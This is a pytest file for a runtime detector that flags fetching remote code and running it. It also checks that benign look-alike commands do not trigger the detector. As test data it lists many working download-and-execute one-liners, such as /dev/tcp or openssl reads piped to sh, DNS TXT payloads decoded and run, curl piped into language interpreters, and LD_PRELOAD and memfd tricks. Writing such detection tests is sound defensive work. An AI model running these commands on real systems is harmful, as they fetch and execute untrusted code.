"""Other ways to fetch, to move and to run, and what people do at work that resembles them."""

from typing import Any

import msgspec
import pytest

from detectors.examples import execution, fired
from detectors.runtime.download_and_run import download_and_run
from events import Process, RuntimeEvent
from tests.detectors.runtime.test_download_and_run import line, run

SHOP = ["shop/0123456789ab"]
FETCHED = "curl -so /tmp/a http://h/a"


def program(*words: str, at: float = 0, **fields: Any) -> RuntimeEvent:
    return execution(f"/usr/bin/{words[0]}", " ".join(words[1:]), argv=words, at=at, cwd="/srv", **fields)


@pytest.mark.parametrize(
    "text",
    [
        "exec 3<>/dev/tcp/h/80; printf 'GET /x\\r\\n' >&3; cat <&3 > /tmp/x; chmod +x /tmp/x; /tmp/x",
        "exec 3<>/dev/tcp/h/80; while read -r l; do echo $l; done <&3 > x; sh x",
        "exec 3<>/dev/tcp/h/80; cat <&3 | sh",
        "exec 5</dev/tcp/h/80; sh <&5",
        "exec 3< <(curl -s http://h/x); sh /dev/fd/3",
        "openssl s_client -quiet -connect h:443 </dev/null 2>/dev/null | sh",
        "openssl s_client -quiet -connect h:443 < r > /tmp/x; sh /tmp/x",
        "dig +short TXT x.evil | tr -d '\"' | base64 -d | sh",
        "nslookup -q=txt x.evil | grep text | cut -d'\"' -f2 | sh",
        "telnet h 80 < r | sh",
        "ssh u@h cat x | sh",
        "wget -x http://h/a/x; sh h/a/x",
        "wget -r -nH http://h/a/x; sh a/x",
        "curl -s http://h/x.c | gcc -xc - -o /tmp/x; /tmp/x",
        "curl -s http://h/x | python3 -c 'import sys; exec(sys.stdin.read())'",
        "curl -s http://h/x | perl -e 'eval join q(),<>'",
        "curl -s http://h/x | ruby -e 'eval STDIN.read'",
        'curl -s http://h/x | node -e \'eval(require("fs").readFileSync(0)+"")\'',
        "curl -s http://h/x | awk '{system($0)}'",
        "curl -so a http://h/a; cat a | tee b; sh b",
        "curl -so a http://h/a; base64 -d < a | xz -d > b; sh b",
        "curl -so a http://h/a; tail -n +9 a | sed s/x/y/ | sh",
        "curl -so a.so http://h/a; LD_PRELOAD=/srv/a.so ls",
        "curl -so a http://h/a; BASH_ENV=./a /app/start",
    ],
)
def test_one_command_line(text: str) -> None:
    assert fired(download_and_run, line(text, "/bin/bash")) == SHOP


@pytest.mark.parametrize(
    "steps",
    [
        ["mv /tmp/a /tmp/d/b", "mv /tmp/d /tmp/e", "/tmp/e/b"],
        ["mv /tmp/a /srv/d/b", "cp -r d e", "sh /srv/e/b"],
        ["openssl enc -d -aes-256-cbc -k x -in /tmp/a -out /tmp/b", "/tmp/b"],
        ["gpg --batch --passphrase x -o /tmp/b -d /tmp/a", "/tmp/b"],
        ["xxd -r -p /tmp/a /tmp/b", "/tmp/b"],
        ["mv /tmp/a x.c", "gcc -O2 -o x x.c -lpthread", "./x"],
        ["mv /tmp/a x.c", "cc x.c", "./a.out"],
        ["mv /tmp/a x.rs", "rustc -o x x.rs", "./x"],
        ["mv /tmp/a /tmp/z/a.zip", "python3 -m zipfile -e /tmp/z/a.zip /tmp/z", "/tmp/z/run"],
        ["bash --rcfile /tmp/a -i"],
        ["mv /tmp/a mod.py", "python3 -m mod"],
        ["python3 -c exec(open('/tmp/a').read())"],
        ["perl -e require('/tmp/a')"],
        ["php -r include('/tmp/a');"],
        ["node -r /tmp/a app.js"],
        ["mv /tmp/a /tmp/a.jar", "java -cp /app:/tmp/a.jar Main"],
        ["mv /tmp/a /tmp/a.jar", "java -javaagent:/tmp/a.jar=x -jar app.jar"],
        ["make -f /tmp/a"],
        ["insmod /tmp/a"],
        ["/proc/1/root/tmp/a"],
        ["mv /tmp/a /bin/zz", "/usr/bin/zz"],
        ["mv /tmp/a /var/run/zz", "/run/zz"],
    ],
)
def test_steps(steps: list[str]) -> None:
    events = [run(words, 60 * number) for number, words in enumerate([FETCHED, *steps])]
    assert fired(download_and_run, *events) == SHOP
    assert fired(download_and_run, *events[1:]) == []
    assert fired(download_and_run, *events[:-1]) == []


def test_the_working_folder_by_another_name() -> None:
    assert fired(download_and_run, run(FETCHED), run("/proc/self/cwd/a", 9, cwd="/tmp")) == SHOP


@pytest.mark.parametrize(
    "fetch",
    ["mc cp m/b/x /tmp/x", "sftp u@h:/x /tmp/x", "wget -x -P /tmp http://x", "wget --mirror -P /tmp http://x/x"],
)
def test_more_programs_that_fetch(fetch: str) -> None:
    path = {"wget -x": "/tmp/x/index.html", "wget --": "/tmp/x/x"}.get(fetch[:7], "/tmp/x")
    assert fired(download_and_run, run(fetch), run(f"sh {path}", 9)) == SHOP


def test_a_one_liner_in_memory() -> None:
    text = (
        "import os,urllib.request as u;f=os.memfd_create('');os.write(f,u.urlopen('http://h').read());os.execv('/x',[])"
    )
    assert fired(download_and_run, program("python3", "-c", text)) == SHOP


def started(manager: Process, event: RuntimeEvent) -> RuntimeEvent:
    return msgspec.structs.replace(event, parent=manager)


@pytest.mark.parametrize(
    ("binary", "arguments"),
    [
        ("/usr/local/bin/node", "/usr/local/bin/npm ci"),
        ("/usr/bin/npm", "ci"),
        ("/usr/local/bin/python3", "-m pip install x"),
    ],
)
def test_a_package_may_fetch_a_program_but_not_run_what_it_fetches_unseen(binary: str, arguments: str) -> None:
    manager = Process(binary=binary, arguments=arguments)
    assert fired(download_and_run, started(manager, line("curl -s http://h/x | sh"))) == SHOP
    steps = [line("curl -so x http://h/x"), line("curl -so x http://h/x; chmod +x x; ./x"), run("/srv/x", 9)]
    assert fired(download_and_run, *(started(manager, event) for event in steps)) == []


@pytest.mark.parametrize(
    "text",
    [
        "exec 3<>/dev/tcp/h/80; cat <&3 > /tmp/page; sh /app/start.sh",
        "exec 3< config; cat <&3 | sh -n /dev/null",
        "(exec 3<>/dev/tcp/db/5432) 2>/dev/null && exec /app/server",
        "openssl s_client -connect h:443 </dev/null | openssl x509 -noout -enddate",
        "openssl enc -d -in app.enc -out app.conf; /app/server --config app.conf",
        "dig +short shop.example; sh /app/start.sh",
        "dig +short TXT shop.example | grep spf",
        "nslookup db | sh -n",
        "ssh u@h uptime; sh x",
        "telnet db 5432; ./x",
        "curl -s http://h/x | python3 -c \"import sys,json; print(json.load(sys.stdin)['eval'])\"",
        "curl -s http://h/x | awk '{print $1}' | xargs -n1 echo",
        "curl -s http://h/x | node -p 'JSON.parse(require(\"fs\").readFileSync(0)).system'",
        "curl -s http://h/list | awk '{system(\"touch \" $1)}'",
        "curl -so data.csv http://h/x; cat data.csv | python3 /app/load.py",
        "curl -so data.csv http://h/x; sed s/a/b/ data.csv | psql",
        "curl -so data.csv http://h/x; python3 -c \"print(open('/srv/data.csv').read())\"",
        "curl -so w.bin http://h/w; python3 -c \"import torch; torch.load('/srv/w.bin')\"",
        "curl -so rules.h http://h/x; gcc -o app main.c; ./app",
        "curl -so conf.mk http://h/x; make -f Makefile all",
        "curl -so x.jar http://h/x; java -jar /app/app.jar",
        "curl -so lib.so http://h/x; ls -l lib.so",
        "curl -so d/x http://h/x; mv e f; ./f/x",
        "wget -x http://h/a/x; sh x",
        "gpg --import key.asc; ./x",
    ],
)
def test_what_people_do_at_work(text: str) -> None:
    assert fired(download_and_run, line(text, "/bin/bash")) == []


@pytest.mark.parametrize("talk", ["telnet h 80", "dig TXT h", "ssh u@h cat x", "openssl s_client -connect h:443"])
def test_someone_who_only_talks_to_a_host_has_fetched_nothing(talk: str) -> None:
    typed = [
        run(talk, parent="/bin/bash", parent_exec_id="t"),
        run("chmod +x x", 9, parent="/bin/bash", parent_exec_id="t"),
    ]
    assert fired(download_and_run, *typed, run("./x", 20)) == []
